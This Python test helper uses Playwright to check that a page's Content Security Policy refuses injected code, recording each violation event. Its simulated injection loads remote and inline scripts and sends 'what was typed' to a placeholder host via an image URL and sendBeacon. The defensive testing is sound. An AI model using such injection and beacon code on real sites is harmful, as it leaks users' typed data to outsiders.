"""Somebody else's code in the page: what it tries, and what the page's policy refuses it."""

from playwright.sync_api import BrowserContext, Page

# Nothing answers there, but the policy speaks first.
ELSEWHERE = "//elsewhere.invalid/"

TRIES = f"""() => {{
    const put = (tag, more) =>
        document.body.append(Object.assign(document.createElement(tag), more));
    const button = document.createElement("button");
    button.setAttribute("onclick", "ran.push('handler')");
    window.ran = [];
    put("script", {{ src: "https:{ELSEWHERE}a.js" }});
    put("script", {{ textContent: "ran.push('inline')" }});
    put("img", {{ src: "https:{ELSEWHERE}?what=was-typed" }});
    put("iframe", {{ src: "https:{ELSEWHERE}" }});
    put("link", {{ rel: "stylesheet", href: "https:{ELSEWHERE}a.css" }});
    button.click();
    setTimeout(() => new Function("ran.push('text')")());
    fetch("https:{ELSEWHERE}").catch(() => {{}});
    navigator.sendBeacon("https:{ELSEWHERE}", "what was typed");
    try {{ new WebSocket("wss:{ELSEWHERE}"); }} catch {{}}
}}"""

# What the browser calls each of the tries, and where it would have led.
REFUSED = {
    "script-src-elem https:",
    "script-src-elem inline",
    "img-src https:",
    "frame-src https:",
    "style-src-elem https:",
    "script-src-attr inline",
    "script-src eval",
    "connect-src https:",
    "connect-src wss:",
}

NOTE = """
window.refused = new Set();
document.addEventListener("securitypolicyviolation", (event) => {
    const where = event.blockedURI.replace(/\\/\\/.*/, "");
    refused.add(`${event.effectiveDirective} ${where}`);
});
"""


def note_refusals(context: BrowserContext) -> None:
    """Let every page of a visitor note what its policy refuses."""
    context.add_init_script(NOTE)


def refusals(page: Page) -> set[str]:
    """Return what the page has been refused."""
    return set(page.evaluate("[...refused]"))


def break_in(page: Page) -> list[str]:
    """Try it all, wait until all of it is refused; return what has run nevertheless."""
    page.evaluate(TRIES)
    page.wait_for_function(f"() => refused.size >= {len(REFUSED)}")
    ran: list[str] = page.evaluate("ran")
    return ran
